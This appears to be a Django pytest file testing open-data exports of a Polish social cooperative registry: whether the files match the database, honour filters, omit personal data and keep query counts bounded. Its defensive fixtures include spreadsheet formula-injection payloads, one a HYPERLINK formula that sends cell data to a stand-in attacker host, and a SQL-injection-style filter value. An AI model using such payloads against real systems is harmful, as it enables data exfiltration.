"""Open data: each file parsed back and equal to the database, filters honoured, no personal data, bounded
queries; the page with its links, data dictionary and licence."""

import csv
import io
import json
import re
from types import SimpleNamespace

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from cooperatives import exports, selectors
from cooperatives.models import Cooperative, CooperativeActivity, FounderKind, Offer, TargetGroup
from core import streaming

from .sample_registry import add_cooperatives, build_sample_registry

pytestmark = pytest.mark.django_db

COOPERATIVE_HEADER = [column.name for column in exports.COOPERATIVE_COLUMNS]
OFFER_HEADER = [column.name for column in exports.OFFER_COLUMNS]


@pytest.fixture
def registry():
    return build_sample_registry()


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def local_date(value):
    return timezone.localdate(value).isoformat() if value else None


def expected_cooperative(cooperative: Cooperative) -> dict:
    """The open-data record of a cooperative, built from the model (JSON types)."""
    cooperative.refresh_from_db()
    main = cooperative.activities.filter(is_main=True).first()
    return {
        "krs_number": cooperative.krs_number,
        "name": cooperative.name,
        "short_name": cooperative.short_name,
        "nip": cooperative.nip,
        "regon": cooperative.regon,
        "status": cooperative.status,
        "status_date": None,
        "krs_registration_date": cooperative.krs_registration_date.isoformat()
        if cooperative.krs_registration_date
        else None,
        "founder_type": cooperative.founder_type,
        "is_social_enterprise": cooperative.is_social_enterprise,
        "ps_decision_number": cooperative.ps_decision_number,
        "ps_decision_date": cooperative.ps_decision_date.isoformat() if cooperative.ps_decision_date else None,
        "ps_voivodeship_code": cooperative.ps_voivode_id,
        "ps_aim": cooperative.ps_aim,
        "street": cooperative.street,
        "postal_code": cooperative.postal_code,
        "town": cooperative.town,
        "gmina_code": cooperative.gmina_id,
        "gmina_name": cooperative.gmina.name,
        "powiat_code": cooperative.powiat_id,
        "powiat_name": cooperative.powiat.name,
        "voivodeship_code": cooperative.voivodeship_id,
        "voivodeship_name": cooperative.voivodeship.name,
        "latitude": float(cooperative.latitude) if cooperative.latitude is not None else None,
        "longitude": float(cooperative.longitude) if cooperative.longitude is not None else None,
        "location_precision": cooperative.location_precision,
        "website": cooperative.public_website,
        "description": cooperative.description,
        "members_count": cooperative.members_count,
        "employees_count": cooperative.employees_count,
        "employees_at_risk_count": cooperative.employees_at_risk_count,
        "counts_as_of": cooperative.counts_as_of.isoformat() if cooperative.counts_as_of else None,
        "has_quality_mark": cooperative.has_quality_mark,
        "is_ozrss_member": cooperative.is_ozrss_member,
        "last_audit_date": None,
        "verified_on": local_date(cooperative.verified_at),
        "updated_on": local_date(cooperative.updated_at),
        "target_groups": ";".join(sorted(cooperative.target_groups.values_list("code", flat=True))),
        "founder_kinds": ";".join(sorted(cooperative.founder_kinds.values_list("code", flat=True))),
        "pkd_main": f"{main.version}:{main.code}" if main else "",
        "pkd_other": ";".join(sorted(f"{a.version}:{a.code}" for a in cooperative.activities.filter(is_main=False))),
        "profile_url": f"http://testserver/spoldzielnie/{cooperative.krs_number}/",
    }


def expected_offer(offer: Offer) -> dict:
    offer.refresh_from_db()
    sector = offer.category.parent or offer.category
    if offer.service_area == Offer.ServiceArea.VOIVODESHIPS:
        units = offer.area_voivodeships.all()
    elif offer.service_area == Offer.ServiceArea.POWIATS:
        units = offer.area_powiats.all()
    else:
        units = []
    return {
        "id": offer.pk,
        "title": offer.title,
        "description": offer.description,
        "sector_slug": sector.slug,
        "sector_name": sector.name,
        "category_slug": offer.category.slug,
        "category_name": offer.category.name,
        "service_area": offer.service_area,
        "service_area_codes": ";".join(sorted(unit.code for unit in units)),
        "price_note": offer.price_note,
        "cpv_code": offer.cpv_code,
        "zakup_prospoleczny_year": offer.zakup_prospoleczny_year,
        "cooperative_krs_number": offer.cooperative.krs_number,
        "cooperative_name": offer.cooperative.name,
        "cooperative_town": offer.cooperative.town,
        "cooperative_gmina_code": offer.cooperative.gmina_id,
        "cooperative_voivodeship_code": offer.cooperative.voivodeship_id,
        "updated_on": local_date(offer.updated_at),
        "offer_url": f"http://testserver/oferty/{offer.pk}/",
        "cooperative_profile_url": f"http://testserver/spoldzielnie/{offer.cooperative.krs_number}/",
    }


def as_csv_text(record: dict) -> dict:
    """A JSON-typed record as the CSV shows it."""

    def text(value):
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        return str(value)

    return {key: text(value) for key, value in record.items()}


def parse_csv(response) -> list[dict]:
    content = body(response).decode("utf-8")
    assert content.startswith("\ufeff")
    reader = csv.DictReader(io.StringIO(content[1:]))
    rows = list(reader)
    return reader.fieldnames, rows


# --- cooperatives ------------------------------------------------------------------------------------------


def test_cooperatives_csv_equals_the_database(client, registry):
    response = client.get("/open-data/cooperatives.csv")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="spoldzielnie-socjalne-{today}.csv"'
    header, rows = parse_csv(response)
    assert header == COOPERATIVE_HEADER
    by_krs = {row["krs_number"]: row for row in rows}
    assert set(by_krs) == {"0000123456", "0000654321", "0000777777"}
    for cooperative in (registry.lodz, registry.poznan, registry.warsaw):
        expected = as_csv_text(expected_cooperative(cooperative))
        row = by_krs[cooperative.krs_number]
        for key in ("latitude", "longitude"):  # stored with 6 decimal places
            assert (float(row.pop(key)) if row[key] else None) == (float(expected.pop(key)) if expected[key] else None)
        assert row == expected


def test_cooperatives_json_equals_the_database(client, registry):
    response = client.get("/open-data/cooperatives.json")
    assert response.streaming
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].endswith('.json"')
    records = json.loads(body(response))
    assert {record["krs_number"]: record for record in records} == {
        cooperative.krs_number: expected_cooperative(cooperative)
        for cooperative in (registry.lodz, registry.poznan, registry.warsaw)
    }
    assert all(list(record) == COOPERATIVE_HEADER for record in records)


def test_cooperatives_geojson_is_a_feature_collection_of_points(client, registry):
    response = client.get("/open-data/cooperatives.geojson")
    assert response.streaming
    assert response["Content-Type"] == "application/geo+json"
    collection = json.loads(body(response))
    assert collection["type"] == "FeatureCollection"
    features = {feature["properties"]["krs_number"]: feature for feature in collection["features"]}
    assert set(features) == {"0000123456", "0000654321", "0000777777"}
    lodz = features["0000123456"]
    assert lodz["type"] == "Feature"
    assert lodz["geometry"] == {"type": "Point", "coordinates": [19.456, 51.759]}  # [longitude, latitude]
    expected = expected_cooperative(registry.lodz)
    del expected["latitude"], expected["longitude"]
    assert lodz["properties"] == expected
    assert features["0000654321"]["geometry"] is None  # no coordinates: kept, without a geometry


def test_cooperatives_xlsx_equals_the_database(client, registry):
    response = client.get("/open-data/cooperatives.xlsx")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)), read_only=True)
    sheet = workbook.active
    assert sheet.title == "Spółdzielnie socjalne"
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == COOPERATIVE_HEADER
    by_krs = {row[0]: dict(zip(COOPERATIVE_HEADER, row, strict=True)) for row in values[1:]}
    assert set(by_krs) == {"0000123456", "0000654321", "0000777777"}
    for cooperative in (registry.lodz, registry.poznan, registry.warsaw):
        row = by_krs[cooperative.krs_number]
        normalised = {
            key: (
                value.date().isoformat()
                if hasattr(value, "date")
                else float(value)
                if key in ("latitude", "longitude") and value is not None
                else value
            )
            for key, value in row.items()
        }
        expected = {key: (None if value == "" else value) for key, value in expected_cooperative(cooperative).items()}
        normalised = {key: (None if value == "" else value) for key, value in normalised.items()}
        assert normalised == expected


def test_text_that_looks_like_a_formula_stays_text_in_xlsx(client, registry):
    registry.warsaw.name = '=HYPERLINK("http://evil.example")'
    registry.warsaw.description = "linia\x0bz\x01 sterującymi"
    registry.warsaw.save()
    workbook = openpyxl.load_workbook(io.BytesIO(body(client.get("/open-data/cooperatives.xlsx"))))
    rows = {row[0].value: row for row in workbook.active.iter_rows(min_row=2)}
    name_cell = rows["0000777777"][1]
    assert name_cell.data_type == "s"
    assert name_cell.value == registry.warsaw.name
    assert rows["0000777777"][COOPERATIVE_HEADER.index("description")].value == "liniaz sterującymi"


def test_filters_of_the_catalogue_are_honoured(client, registry):
    def krs(query):
        return [record["krs_number"] for record in json.loads(body(client.get(f"/open-data/cooperatives.json{query}")))]

    assert krs("?voivodeship=10") == ["0000123456"]
    assert krs("?status=liquidation") == ["0000654321"]
    assert krs("?category=gastronomia") == ["0000123456"]
    assert krs("?search=spoldzielnia+lodz") == ["0000123456"]
    assert krs("?ordering=newest") == ["0000777777", "0000654321", "0000123456"]
    assert krs("?social_enterprise=false&founder_type=mixed") == ["0000777777"]
    _header, rows = parse_csv(client.get("/open-data/cooperatives.csv?powiat=3064"))
    assert [row["krs_number"] for row in rows] == ["0000654321"]


def test_empty_selection_gives_valid_empty_files(client, registry):
    query = "?voivodeship=02"
    header, rows = parse_csv(client.get(f"/open-data/cooperatives.csv{query}"))
    assert (header, rows) == (COOPERATIVE_HEADER, [])
    assert json.loads(body(client.get(f"/open-data/cooperatives.json{query}"))) == []
    assert json.loads(body(client.get(f"/open-data/cooperatives.geojson{query}"))) == {
        "type": "FeatureCollection",
        "features": [],
    }
    workbook = openpyxl.load_workbook(io.BytesIO(body(client.get(f"/open-data/cooperatives.xlsx{query}"))))
    assert [cell.value for cell in next(workbook.active.iter_rows())] == COOPERATIVE_HEADER
    assert workbook.active.max_row == 1


# --- offers ------------------------------------------------------------------------------------------------


def test_offers_in_every_format_equal_the_database(client, registry):
    expected = {offer.pk: expected_offer(offer) for offer in (registry.lunches, registry.mowing, registry.cleaning)}

    records = json.loads(body(client.get("/open-data/offers.json")))
    assert {record["id"]: record for record in records} == expected  # the inactive offer is not public

    response = client.get("/open-data/offers.csv")
    assert response["Content-Disposition"].startswith('attachment; filename="oferty-spoldzielni-socjalnych-')
    header, rows = parse_csv(response)
    assert header == OFFER_HEADER
    assert {int(row["id"]): row for row in rows} == {pk: as_csv_text(record) for pk, record in expected.items()}

    workbook = openpyxl.load_workbook(io.BytesIO(body(client.get("/open-data/offers.xlsx"))), read_only=True)
    values = list(workbook.active.iter_rows(values_only=True))
    assert list(values[0]) == OFFER_HEADER
    parsed = {
        row[0]: {
            key: (value.date().isoformat() if hasattr(value, "date") else (None if value == "" else value))
            for key, value in zip(OFFER_HEADER, row, strict=True)
        }
        for row in values[1:]
    }
    assert parsed == {
        pk: {key: (None if value == "" else value) for key, value in record.items()} for pk, record in expected.items()
    }


def test_offer_filters_are_honoured(client, registry):
    def titles(query):
        return sorted(record["title"] for record in json.loads(body(client.get(f"/open-data/offers.json{query}"))))

    assert titles("?category=gastronomia") == ["Obiady dla szkół"]
    assert titles("?serves=14") == ["Obiady dla szkół", "Sprzątanie biur"]
    assert titles("?service_area=national") == ["Sprzątanie biur"]
    assert titles("?voivodeship=30") == ["Koszenie trawników"]


def test_there_is_no_geojson_of_offers(client, registry):
    assert client.get("/open-data/offers.geojson").status_code == 404


# --- personal data -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/open-data/cooperatives.csv",
        "/open-data/cooperatives.json",
        "/open-data/cooperatives.geojson",
        "/open-data/offers.csv",
        "/open-data/offers.json",
    ],
)
def test_no_personal_data_in_open_data(client, registry, url):
    content = body(client.get(url)).decode("utf-8")
    for secret in [
        "biuro@poddebem.example.org",
        "prezes.kowalski@example.org",
        "+48 600 100 200",
        "+48 500 000 000",
        "reprezentant.tajny",
        "Tajny",
        "zakatek.example.org",  # website without consent
        "@",
    ]:
        assert secret not in content
    assert "email" not in content
    assert "phone" not in content


def test_no_personal_data_in_xlsx(client, registry):
    for url in ("/open-data/cooperatives.xlsx", "/open-data/offers.xlsx"):
        workbook = openpyxl.load_workbook(io.BytesIO(body(client.get(url))), read_only=True)
        cells = " ".join(str(value) for row in workbook.active.iter_rows(values_only=True) for value in row)
        assert "@" not in cells
        assert "600 100 200" not in cells
        assert "zakatek.example.org" not in cells


# --- errors ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("/open-data/cooperatives.csv?voivodeship=99", "Nieznany kod TERYT: 99."),
        ("/open-data/cooperatives.xlsx?status=bankrupt", "bankrupt"),
        ("/open-data/cooperatives.geojson?search=" + "x" * 5000, "co najwyżej 200 znaków"),
        ("/open-data/cooperatives.json?gmina=%00", "Wartość zawiera niedozwolony znak NUL."),
        ("/open-data/offers.csv?serves=99", "Nieznany kod TERYT: 99."),
        ("/open-data/offers.json?certification=quality_mark", "quality_mark"),
    ],
)
def test_invalid_filters_are_a_400_page_in_polish(client, registry, url, message):
    response = client.get(url)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert message in response.content.decode()
    assert "Nie można przygotować danych z tymi filtrami" in response.content.decode()


# Values that have broken filters elsewhere: NUL (refused by PostgreSQL), digit strings beyond any integer,
# digits outside ASCII, and text in need of folding. (The API tests throw a wider set at the same filters.)
ODD_VALUES = ["\x00", "9" * 5000, "１０", "Łódź 🙂 ' OR 1=1 --"]
COOPERATIVE_PARAMETERS = [
    "search",
    "voivodeship",
    "powiat",
    "gmina",
    "category",
    "target_group",
    "founder_type",
    "status",
    "social_enterprise",
    "certification",
    "ordering",
]
OFFER_PARAMETERS = ["search", "gmina", "category", "serves", "service_area", "certification", "ordering"]


@pytest.mark.parametrize(
    ("kind", "parameters"),
    [
        ("cooperatives.csv", COOPERATIVE_PARAMETERS),
        ("offers.json", OFFER_PARAMETERS),
        ("", COOPERATIVE_PARAMETERS),
    ],
)
def test_odd_inputs_never_produce_a_500(client, registry, kind, parameters):
    for parameter in parameters:
        for value in ODD_VALUES:
            response = client.get(f"/open-data/{kind}", {parameter: value})
            assert response.status_code in {200, 400}, (parameter, value)
            if response.streaming:
                body(response)
        # Repeated parameters: the last value counts, as in the catalogue.
        response = client.get(f"/open-data/{kind}?{parameter}=1&{parameter}=%00&{parameter}=")
        assert response.status_code in {200, 400}


def test_downloads_are_read_only(client, registry):
    assert client.post("/open-data/cooperatives.csv").status_code == 405
    assert client.post("/open-data/").status_code == 405


# --- memory and queries ------------------------------------------------------------------------------------


def test_export_reads_nothing_until_iterated(registry, django_assert_num_queries):
    with django_assert_num_queries(0):
        export = exports.cooperative_export(Cooperative.objects.all(), site_url="http://testserver")
    assert export.header == COOPERATIVE_HEADER
    with django_assert_num_queries(4):  # rows, then target groups, founder kinds and PKD codes of the batch
        rows = list(export.rows)
    assert len(rows) == 3
    assert all(len(row) == len(COOPERATIVE_HEADER) for row in rows)


def test_rows_are_read_in_batches(registry, monkeypatch, django_assert_num_queries):
    add_cooperatives(4)
    monkeypatch.setattr(exports, "BATCH_SIZE", 3)
    # 7 cooperatives in batches of 3: the rows query, then 3 queries for each of the 3 batches
    with django_assert_num_queries(1 + 3 * 3):
        rows = list(exports.cooperative_export(Cooperative.objects.all(), site_url="").rows)
    assert len({row[0] for row in rows}) == 7


# The count of rows (is the file big enough for a background export? exportjobs), the rows query and one query per
# many-to-many relation of a batch (a filter lookup adds one).
EXPORT_QUERIES = {
    "cooperatives.csv": 5,
    "cooperatives.json": 5,
    "cooperatives.geojson": 5,
    "cooperatives.xlsx": 5,
    "offers.csv": 4,
    "offers.json": 4,
    "offers.xlsx": 4,
}
# On PostgreSQL the database writes CSV files (COPY): the count, a trivial query before the first byte (so a database
# that cannot answer is a 503, not a 200 with a header row), then the settings and the COPY, within a savepoint.
COPY_QUERIES = 6


def expected_queries(name: str) -> int:
    if name.endswith(".csv") and connection.vendor == "postgresql":
        return COPY_QUERIES
    return EXPORT_QUERIES[name]


@pytest.mark.parametrize("name", list(EXPORT_QUERIES))
def test_export_query_count_is_pinned_and_does_not_grow_with_rows(client, registry, name, django_assert_num_queries):
    with django_assert_num_queries(expected_queries(name)):
        small = body(client.get(f"/open-data/{name}"))
    add_cooperatives(15, offers_each=2)
    with django_assert_num_queries(expected_queries(name)):
        large = body(client.get(f"/open-data/{name}"))
    assert len(large) > len(small)


def test_the_page_query_count_is_pinned(client, registry, django_assert_num_queries):
    client.get("/open-data/")  # warm the demo-data flag cache
    # the voivodeship looked up for both catalogues, two counts, the options of three lists
    with django_assert_num_queries(7):
        client.get("/open-data/?voivodeship=10")
    add_cooperatives(10)
    with django_assert_num_queries(7):
        client.get("/open-data/?voivodeship=10")


# --- the page ----------------------------------------------------------------------------------------------


def test_open_data_page_lists_downloads_dictionary_and_licence(client, registry):
    response = client.get("/open-data/")
    assert response.status_code == 200
    html = response.content.decode()
    assert html.count("<h1") == 1
    for fmt in ("csv", "xlsx", "json", "geojson"):
        assert f'href="/open-data/cooperatives.{fmt}"' in html
    for fmt in ("csv", "xlsx", "json"):
        assert f'href="/open-data/offers.{fmt}"' in html
    for name in COOPERATIVE_HEADER + OFFER_HEADER:
        assert f"<code>{name}</code>" in html
    assert "CC BY 4.0" in html
    assert "https://creativecommons.org/licenses/by/4.0/deed.pl" in html
    assert "Główny Urząd Statystyczny, rejestr TERC" in html
    assert "BOM" in html
    assert "Pliki są tworzone w chwili pobrania" in html
    assert '<caption class="visually-hidden">' in html
    assert '<th scope="col">' in html
    assert response.context["cooperative_count"] == 3
    assert response.context["offer_count"] == 3
    assert "---------" not in html  # every list offers "wszystkie" instead
    assert html.count('<option value="" selected>wszystkie</option>') == 7
    assert html.index(">Gastronomia i catering</option>") < html.index(">Gastronomia i catering › Catering</option>")


def test_the_page_and_files_answer_head_requests(client, registry):
    assert client.head("/open-data/").status_code == 200
    assert client.head("/open-data/cooperatives.csv").status_code == 200


def test_links_keep_the_catalogue_filters(client, registry):
    response = client.get("/open-data/", {"voivodeship": "10", "status": "active", "ordering": "newest"})
    html = response.content.decode()
    assert 'href="/open-data/cooperatives.csv?ordering=newest&amp;status=active&amp;voivodeship=10"' in html
    # Offers have no status filter: their links keep the rest and the page says what was left out.
    assert 'href="/open-data/offers.json?ordering=newest&amp;voivodeship=10"' in html
    assert "pominięto w plikach ofert: Status" in html
    assert "Pliki zawierają tylko dane spełniające filtry" in html
    assert re.search(r"Województwo: woj\. łódzkie", html)
    assert response.context["cooperative_count"] == 1


def test_page_with_invalid_filters_says_what_is_wrong(client, registry):
    response = client.get("/open-data/", {"voivodeship": "99", "status": "active"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "Nieznany kod TERYT: 99." in html
    assert '<a href="#id_voivodeship">Województwo</a>' in html
    # The links keep only the filters that can be applied.
    assert 'href="/open-data/cooperatives.csv?status=active"' in html


# --- CSV written by PostgreSQL (COPY) ----------------------------------------------------------------------


def _awkward_registry(registry):
    """Values whose CSV form is easy to get wrong: quotes, separators, line ends, empty and missing values, list
    codes whose order differs between collations, a decimal with trailing zeros."""
    registry.lodz.description = 'Obiady "domowe", zupy;\nkatering\r\nokolicznościowy'
    registry.lodz.short_name = ""
    registry.lodz.street = "  "
    registry.lodz.latitude = "51.700000"
    registry.lodz.save()
    registry.poznan.name = '=SUMA(A1) "Zakątek"'
    registry.poznan.description = "\\."
    registry.poznan.members_count = None
    # Formula triggers at the start of texts (an apostrophe goes before them) and inside them (nothing changes).
    registry.poznan.short_name = "@SUMA(A1)"
    registry.poznan.street = "\t=1"
    registry.poznan.town = "\r=1"
    registry.poznan.save()
    for code in ("grupa_b", "grupab", "Grupa-A", "+plus"):
        TargetGroup.objects.create(code=code, name=code, legal_basis=TargetGroup.objects.first().legal_basis)
    registry.poznan.target_groups.set(TargetGroup.objects.filter(code__in=["+plus", "grupab"]))
    registry.warsaw.target_groups.set(TargetGroup.objects.filter(code__in=["grupa_b", "grupab", "Grupa-A"]))
    registry.warsaw.founder_kinds.set(FounderKind.objects.all()[:3])
    CooperativeActivity.objects.create(cooperative=registry.warsaw, code="10.11.Z", version="2025")
    CooperativeActivity.objects.create(cooperative=registry.warsaw, code="10.11.Z", version="2007")
    registry.mowing.service_area = Offer.ServiceArea.POWIATS
    registry.mowing.save()
    registry.mowing.area_powiats.set(["3064", "1061"])
    registry.mowing.area_voivodeships.set(["30"])  # left over from an edit: not exported
    registry.cleaning.area_powiats.set(["1465"])  # national: no codes exported
    registry.cleaning.description = ""
    registry.cleaning.title = '=HYPERLINK("http://evil.example/?x="&B2,"x")'
    registry.cleaning.price_note = "-2+3"
    registry.cleaning.save()


@pytest.mark.parametrize(
    "query",
    [
        {},
        {"voivodeship": "10"},
        {"ordering": "newest"},
        {"search": "spoldzielnia"},
        {"search": "obiady", "ordering": "relevance"},
        {"status": "liquidation"},
    ],
)
def test_postgresql_copy_writes_the_same_bytes_as_python(registry, postgresql_only, query):
    _awkward_registry(registry)
    for selector, export in (
        (selectors.cooperative_list, exports.cooperative_export),
        (selectors.offer_list, exports.offer_export),
    ):
        filterset = selector(data=query)
        assert filterset.is_valid()
        python = export(filterset.qs, site_url="https://example.org")
        copied = export(filterset.qs, site_url="https://example.org")
        expected = b"".join(streaming.csv_lines(python.header, python.rows))
        assert expected.count(b"\r\n") > 1 or query  # rows, not only the header
        assert b"".join(streaming.copy_csv_lines(copied.header, *copied.csv_query())) == expected


def test_csv_download_on_postgresql_is_written_by_copy(client, registry, postgresql_only):
    _awkward_registry(registry)
    with CaptureQueriesContext(connection) as context:
        content = body(client.get("/open-data/cooperatives.csv"))
    assert any(query["sql"].startswith("COPY (") for query in context.captured_queries)
    header, rows = parse_csv(SimpleNamespace(streaming_content=[content]))
    assert header == COOPERATIVE_HEADER
    by_krs = {row["krs_number"]: row for row in rows}
    assert by_krs["0000777777"]["target_groups"] == "Grupa-A;grupa_b;grupab"
    assert by_krs["0000777777"]["pkd_other"] == "2007:10.11.Z;2025:10.11.Z"
    assert by_krs["0000123456"]["description"] == 'Obiady "domowe", zupy;\nkatering\r\nokolicznościowy'
    assert by_krs["0000654321"]["members_count"] == ""
    assert by_krs["0000654321"]["short_name"] == "'@SUMA(A1)"  # behind an apostrophe: not a formula
    assert by_krs["0000654321"]["target_groups"] == "'+plus;grupab"


def test_a_copy_left_unread_leaves_the_connection_usable(registry, postgresql_only):
    export = exports.cooperative_export(Cooperative.objects.all(), site_url="")
    lines = streaming.copy_csv_lines(export.header, *export.csv_query())
    next(lines)  # the header
    next(lines)  # the rows have started
    lines.close()  # the client went away
    assert Cooperative.objects.count() == 3


def test_no_sql_for_copy_elsewhere(registry):
    if connection.vendor != "postgresql":
        assert exports.cooperative_export(Cooperative.objects.all(), site_url="").csv_query is None
        assert exports.offer_export(Offer.objects.all(), site_url="").csv_query is None
